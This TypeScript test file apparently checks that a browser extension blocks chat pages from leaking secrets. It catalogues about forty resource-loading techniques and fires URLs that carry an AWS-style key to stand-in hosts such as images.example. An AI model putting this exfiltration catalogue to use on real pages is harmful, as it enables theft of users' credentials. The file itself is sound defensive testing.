import { setTimeout as sleep } from 'node:timers/promises';
import { expect, test } from 'vitest';
import { waitForNote } from './card.ts';
import { sessionRules } from './extension.ts';
import { useLab } from './harness.ts';
import { loads } from './loads.ts';
import { awsKey } from './private-data.ts';
import { labTarget } from './targets.ts';

const lab = useLab();

/** Every way in which a page can draw what a reply says. Each runs in the page, and draws the picture of that address into a box of its own. */
const drawings: Readonly<Record<string, (url: string, box: HTMLElement) => unknown>> = {
  innerHTML: (url, box) => (box.innerHTML = `<img src="${url}">`),
  'innerHTML with a style': (url, box) => (box.innerHTML = `<div style="background:url(${url})">x</div>`),
  'innerHTML with rules': (url, box) => (box.innerHTML = `<style>body { background: url("${url}") }</style>`),
  'innerHTML of a shadow root': (url, box) => (box.attachShadow({ mode: 'open' }).innerHTML = `<img src="${url}">`),
  'a style in a shadow root': (url, box) => {
    const inner = box.attachShadow({ mode: 'closed' }).appendChild(document.createElement('p'));
    inner.textContent = 'x';
    inner.style.backgroundImage = `url(${url})`;
  },
  'style.background': (url, box) => {
    box.textContent = 'x';
    box.style.background = `url(${url})`;
  },
  'style.cssText': (url, box) => {
    box.textContent = 'x';
    box.style.cssText = `background-image: url('${url}')`;
  },
  'style.setProperty': (url, box) => {
    box.textContent = 'x';
    box.style.setProperty('background-image', `url(${url})`);
  },
  'style before it is put in': (url, box) => {
    const inner = document.createElement('p');
    inner.textContent = 'x';
    inner.style.backgroundImage = `url(${url})`;
    box.append(inner);
  },
  insertRule: (url, box) => {
    box.id = 'ruled';
    box.textContent = 'x';
    document.head.appendChild(document.createElement('style')).sheet?.insertRule(`#ruled { background: url(${url}) }`);
  },
  'text of a style': (url, box) => {
    box.className = 'styled';
    box.textContent = 'x';
    document.head.appendChild(document.createElement('style')).textContent = `.styled { background: url(${url}) }`;
  },
  'an image set': (url, box) => {
    box.textContent = 'x';
    box.style.background = `image-set("${url}" 1x)`;
  },
  'an image set of several': (url, box) => {
    box.textContent = 'x';
    box.style.background = `image-set("data:,a" 9x type("image/png"), "${url}" 1x)`;
  },
  'a sheet behind a comment': (url, box) => (box.innerHTML = `<style>@import/* a; */"${url}";</style>`),
  'behind signs that look like a comment or a string': (url, box) => {
    box.textContent = 'x';
    box.style.cssText = `--a: url(/a/*); --b: "/*'"; background: url("${url}")`;
  },
  'innerHTML with a sheet': (url, box) => (box.innerHTML = `<style>@import url("${url}");</style>`),
  'a sound': (url) => void (new Audio(url).preload = 'auto'),
  'the words of a film': (url, box) => {
    const track = document.createElement('track');
    track.default = true;
    track.src = url;
    const film = box.appendChild(document.createElement('video'));
    film.crossOrigin = 'anonymous';
    film.append(track);
    track.track.mode = 'hidden';
  },
  'a cache': async (url) => (await caches.open('drawn')).add(url).catch(() => undefined),
  'a cache of several': async (url) => (await caches.open('drawn')).addAll([new Request(url)]).catch(() => undefined),
  'a cache of a set': async (url) => (await caches.open('drawn')).addAll(new Set([url])).catch(() => undefined),
  'an adopted sheet': (url, box) => {
    box.className = 'adopting';
    box.textContent = 'x';
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.adopting { background: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  createContextualFragment: (url, box) =>
    box.append(document.createRange().createContextualFragment(`<img src="${url}">`)),
  DOMParser: (url, box) => {
    const { body } = new DOMParser().parseFromString(`<img src="${url}">`, 'text/html');
    box.append(document.importNode(body.firstElementChild as Element, true));
  },
  'DOMParser, adopted': (url, box) => {
    const { body } = new DOMParser().parseFromString(`<img src="${url}">`, 'text/html');
    box.append(...body.childNodes);
  },
  setAttributeNode: (url, box) => {
    const source = document.createAttribute('src');
    source.value = url;
    box.appendChild(document.createElement('img')).setAttributeNode(source);
  },
  setHTMLUnsafe: (url, box) => box.setHTMLUnsafe(`<img src="${url}">`),
  'href.baseVal of SVG': (url, box) => {
    const svg = 'http://www.w3.org/2000/svg';
    const image = document.createElementNS(svg, 'image');
    image.href.baseVal = url;
    box.appendChild(document.createElementNS(svg, 'svg')).append(image);
  },
  'SVG in HTML': (url, box) => (box.innerHTML = `<svg><image href="${url}" width="9" height="9"/></svg>`),
  FontFace: (url) => void new FontFace('drawn', `url(${url})`).load().catch(() => undefined),
  '@font-face': (url, box) => {
    const name = `font-${Math.random().toString(36).slice(2)}`;
    box.style.fontFamily = name;
    box.textContent = 'x';
    document.head.appendChild(document.createElement('style')).textContent =
      `@font-face { font-family: ${name}; src: url(${url}) }`;
  },
  prefetch: (url) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = url;
    document.head.append(link);
  },
  modulepreload: (url) => {
    const link = document.createElement('link');
    link.setAttribute('rel', 'modulepreload');
    link.setAttribute('href', url);
    document.head.append(link);
  },
  'a module': (url) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = url;
    document.head.append(script);
  },
  'speculation rules': (url) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  srcset: (url, box) => (box.appendChild(document.createElement('img')).srcset = `${url} 2x`),
};

test('no way of drawing loads a picture whose address carries a secret out, and each draws others', async () => {
  const chat = await lab().open(labTarget({ csp: 'off' }));
  const draw = (how: string, url: string) =>
    chat.page.evaluate(
      ([source, address]) => {
        const box = document.body.appendChild(document.createElement('div'));
        ((0, eval)(`(${source})`) as (url: string, box: HTMLElement) => unknown)(address, box);
      },
      [how, url] as const,
    );
  const all = Object.entries(drawings);
  for (const [at, [, how]] of all.entries()) {
    // the page's own host is told of aloud, which must not draw the page in between
    for (const host of ['images', 'lab'])
      await draw(how.toString(), `https://${host}.example/leak-${at}.png?k=${awsKey()}`);
    await draw(how.toString(), `https://images.example/fine-${at}.png`);
  }
  await sleep(800);
  const loaded = (kind: string) =>
    all.filter((_way, at) => lab().left(`/${kind}-${at}.png`).length > 0).map(([name]) => name);
  expect(loaded('leak')).toEqual([]);
  expect(loaded('fine')).toEqual(all.map(([name]) => name));
  expect(await chat.page.evaluate(() => new Audio(undefined).src)).toBe('');
  expect(await chat.errors()).toEqual([]);
});

test('no address of the page’s own host carries what was written, whatever loads it', async () => {
  const secret = awsKey();
  const chat = await lab().open(labTarget({ csp: 'off' }));
  await chat.enter('typed', `Use ${secret} `);
  // the browser takes a moment to hear of it
  await expect.poll(() => sessionRules(lab().worker())).not.toEqual([]);
  const all = Object.entries(loads);
  for (const kind of ['leak', 'fine'])
    for (const [at, [, how]] of all.entries())
      await chat.page.evaluate(
        ([source, address]) => {
          const box = document.body.appendChild(document.createElement('div'));
          ((0, eval)(`(${source})`) as (url: string, box: HTMLElement) => unknown)(location.origin + address, box);
        },
        [how.toString(), `/${kind}-${at}.gif?k=${kind === 'leak' ? secret : 'x'}`] as const,
      );
  const loaded = (kind: string) =>
    all.filter((_way, at) => lab().left(`/${kind}-${at}.gif`).length > 0).map(([name]) => name);
  await expect.poll(() => loaded('fine')).toEqual(all.map(([name]) => name));
  expect(loaded('leak')).toEqual([]);
  expect((await waitForNote(chat)).text).not.toContain(secret);
});
